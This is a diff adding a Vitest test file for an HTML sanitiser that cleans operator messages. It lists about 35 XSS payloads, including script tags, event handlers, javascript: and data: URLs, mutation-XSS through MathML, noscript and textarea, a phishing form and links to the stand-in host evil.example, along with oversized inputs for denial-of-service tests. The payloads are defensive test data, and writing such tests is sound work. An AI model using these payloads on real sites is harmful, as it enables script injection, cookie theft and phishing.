@@ -1,0 +1,90 @@
+import { describe, expect, test } from 'vitest'
+import { cleanHtml } from './clean-html.ts'
+
+describe('MSG-01, MSG-03 operator HTML', () => {
+  test('keeps its text, its lists and its links', () => {
+    const html = '<h2>Hi</h2><p>One <strong>two</strong></p><ul><li>three</li></ul><a href="/help?article=fees">a</a>'
+    expect(cleanHtml(html)).toBe(html)
+    expect(cleanHtml('<a href="https://a.example" onclick="x()" target=_blank rel="opener">a</a>')).toBe(
+      '<a href="https://a.example">a</a>',
+    )
+  })
+
+  test.each([
+    ['a script', '<script>alert(1)</script>'],
+    ['a script in capitals', '<ScRiPt src=//evil.example></sCrIpT>'],
+    ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+    ['an unclosed script', '<script>alert(1)'],
+    ['a handler', '<img src=x onerror=alert(1)>'],
+    ['a handler without quotes or spaces', '<svg/onload=alert(1)>'],
+    ['a handler after a slash', '<p/onmouseover=alert(1)>x</p>'],
+    ['a form', '<form action="https://evil.example"><input name=password><button>Log in</button></form>'],
+    ['a formaction', '<button formaction="javascript:alert(1)">x</button>'],
+    ['a style', '<style>*{display:none}</style>'],
+    ['a style attribute', '<p style="position:fixed;inset:0">x</p>'],
+    ['a frame', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
+    ['an object', '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>'],
+    ['a base', '<base href="https://evil.example/">'],
+    ['a meta refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
+    ['a link element', '<link rel=stylesheet href="https://evil.example/x.css">'],
+    ['javascript:', '<a href="javascript:alert(1)">x</a>'],
+    ['javascript: with a tab', '<a href="java&#x09;script:alert(1)">x</a>'],
+    ['javascript: with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
+    ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
+    ['data:', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
+    ['http:', '<a href="http://evil.example">x</a>'],
+    ['a link without a scheme to elsewhere', '<a href="//evil.example">x</a>'],
+    ['an id that hides document.cookie', '<img name=cookie id=cookie><a id=location href="/x">x</a>'],
+    ['a name that hides a form', '<a name=body>x</a>'],
+    ['a class of ours', '<p class="fixed inset-0">x</p>'],
+    ['MathML', '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
+    ['SVG', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><script>alert(1)</script></svg>'],
+    ['a template', '<template><script>alert(1)</script></template>'],
+    ['a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
+    ['a textarea', '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>'],
+    ['a comment', '<!--><img src=x onerror=alert(1)>-->'],
+    ['a CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
+    ['a picture from anywhere by srcset', '<img srcset="https://evil.example/x 1x">'],
+  ])('loses %s', (_, html) => {
+    const clean = cleanHtml(html)
+    expect(clean).not.toMatch(
+      /<(script|style|form|input|button|iframe|object|embed|base|meta|link|svg|math|template|noscript|textarea)\b/i,
+    )
+    // Of the tags that are left none has more than the attributes allowed, and no address but https, mail or our own.
+    for (const [tag] of clean.matchAll(/<[a-z][^>]*>/gi)) {
+      expect(tag).not.toMatch(/\s(on\w+|style|id|name|class|srcset|srcdoc|formaction|action|target)\s*=/i)
+      for (const [, address] of tag.matchAll(/(?:href|src)="([^"]*)"/g)) {
+        expect(address).toMatch(/^(https:\/\/|mailto:|\/(?!\/)|[^:/]*$)/)
+        expect(address).not.toMatch(/script/i)
+      }
+    }
+  })
+
+  const startedSoon = (html: string) => {
+    const startedMs = performance.now()
+    const clean = cleanHtml(html)
+    return { clean, tookMs: performance.now() - startedMs }
+  }
+  /** Generous: the slowest takes under a second, what it guards against took over a minute. */
+  const LIMIT_MS = 5_000
+
+  test('10,000 levels end in a few, with the text', () => {
+    const { clean, tookMs } = startedSoon(`${'<div><b>'.repeat(5_000)}deep${'</b></div>'.repeat(5_000)}`)
+    expect(clean.match(/<(div|b)>/g)?.length ?? 0).toBeLessThanOrEqual(64)
+    expect(clean).toContain('deep')
+    expect(tookMs).toBeLessThan(LIMIT_MS)
+  })
+
+  test.each([
+    ['text', 'word '.repeat(200_000)],
+    ['handlers', '<img src=x onerror=alert(1)>'.repeat(36_000)],
+    ['tags that are never closed', '<p><b><i>'.repeat(110_000)],
+    ['angle brackets', '<'.repeat(1_000_000)],
+    ['one attribute', `<a href="${'a'.repeat(1_000_000)}">x</a>`],
+    ['attributes', `<a ${'x=1 '.repeat(250_000)}>x</a>`],
+  ])('1 MB of %s is cleaned in the end', (_, html) => {
+    const { clean, tookMs } = startedSoon(html)
+    expect(clean).not.toMatch(/<[^>]*onerror/)
+    expect(tookMs).toBeLessThan(LIMIT_MS)
+  })
+})
